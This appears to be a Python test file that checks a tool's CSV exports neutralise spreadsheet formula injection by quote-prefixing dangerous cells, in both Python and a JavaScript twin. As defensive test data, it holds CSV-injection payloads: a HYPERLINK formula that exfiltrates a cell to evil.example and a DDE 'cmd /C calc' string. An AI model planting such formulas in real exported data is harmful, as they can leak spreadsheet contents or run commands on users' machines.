"""CSV never starts a formula (``leyline.text.csv_cell``): ``nissa runs --format csv``, the series and histogram
CSV replies and the web page's chart download prefix a cell starting with ``=``, ``+``, ``-`` (no number),
``@``, a tab or a carriage return with a single quote; the web page's twin gives the same answers."""

from __future__ import annotations

import csv
import io
import json
import pathlib
import subprocess

import httpx
import pytest

from leyline import Metrics, RunStarted, make_event
from leyline.payloads_histogram import HistogramAt, HistogramsReply
from leyline.text import csv_cell
from nissa.cli import main
from nissa_server.histograms import to_csv
from nissa_server.series import SeriesOut, csv_rows
from tests.support import IngestClient

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CELLS = {FORMULA: "'" + FORMULA, "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0", "-2+3": "'-2+3",
         "@SUM(1,2)": "'@SUM(1,2)", "\tx": "'\tx", "\r=1": "'\r=1", "-inf": "'-inf", "-": "'-",
         "-1.5": "-1.5", "+3e4": "+3e4", "-.5": "-.5", "12": "12", "a=b": "a=b", "": "", " =1": " =1",
         "−1": "−1"}


@pytest.mark.single_backend  # no store
def test_a_cell_that_starts_a_formula_is_prefixed_and_a_number_is_not():
    assert {text: csv_cell(text) for text in CELLS} == CELLS
    assert [csv_cell(v) for v in (-1.5, float("-inf"), float("inf"), 3, None)] == [-1.5, "'-inf", float("inf"), 3,
                                                                                    None]


@pytest.mark.single_backend  # no store
def test_the_web_pages_twin_gives_the_same_cells():
    script = pathlib.Path(__file__).parents[2] / "nissa_server" / "web" / "csv.js"
    cases = [c for c in CELLS if c]  # (a row of one empty cell is written "" to tell it from no row)
    program = script.read_text() + f"\nprocess.stdout.write(JSON.stringify({json.dumps(cases)}.map(csvCell)));"
    done = subprocess.run(["node", "-e", program], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == [_one_cell(csv_cell(c)) for c in cases]


def _one_cell(value: object) -> str:
    buf = io.StringIO()
    csv.writer(buf).writerow([value])  # its default line ending: a cell holding \r or \n is quoted
    return buf.getvalue().removesuffix("\r\n")


@pytest.mark.single_backend  # no store
def test_the_series_and_histogram_csv_replies_prefix_their_cells():
    series = SeriesOut(run_id="r", key="@evil", labels={}, x=[1.0], y=[-2.0], points=1)
    assert list(csv.reader(io.StringIO(csv_rows([series])))) == [["r", "'@evil", "1.0", "-2.0"]]
    held = [HistogramAt(rank=0, step=step, epoch=0, ts=1.7e9, min=low, max=0.0, count=2, nonfinite=0, bins=[1, 1],
                        quantiles=None) for step, low in ((1, -2.0), (2, float("-inf")), (3, float("nan")))]
    # the second and third as a store of before the ingest checks may hold them: no bounds to write
    rows = list(csv.reader(io.StringIO(to_csv(HistogramsReply(name="w", quantiles=[], histograms=held, taken=3)))))
    assert rows[1:] == [["0", "1", "1700000000.0", "0", "-2.0", "-1.0", "1"],
                        ["0", "1", "1700000000.0", "1", "-1.0", "0.0", "1"]], "negative numbers stay numbers"


async def test_nissa_runs_csv_prefixes_a_runs_texts(server_url, capsys):
    config = {"opt": "@SUM(1+1)", "lr": -0.5, "cmd": "-2+3"}
    for run_id, name, conf in (("r-csv", FORMULA, config), ("r-plain", "plain", {"opt": "sgd", "lr": 0.1, "cmd": ""})):
        events = [make_event(RunStarted(name=name, config=conf), run_id=run_id, seq=1, ts=1.7e9),
                  make_event(Metrics(values={"val_loss": -1.25}), run_id=run_id, seq=2, ts=1.7e9 + 1, step=1)]
        async with IngestClient(server_url, run_id) as client:
            await client.send(events)
            await client.wait_ack(2)
    async with httpx.AsyncClient(base_url=server_url, timeout=30) as http:
        assert (await http.get("/runs/r-csv")).json()["name"] == FORMULA
    capsys.readouterr()
    assert main(["runs", "--server", server_url, "--format", "csv"]) == 0
    (row,) = [r for r in csv.DictReader(io.StringIO(capsys.readouterr().out)) if r["id"] == "r-csv"]
    assert row["name"] == "'" + FORMULA and row["config.opt"] == "'@SUM(1+1)" and row["config.cmd"] == "'-2+3"
    assert row["config.lr"] == "-0.5", "a number is no formula"
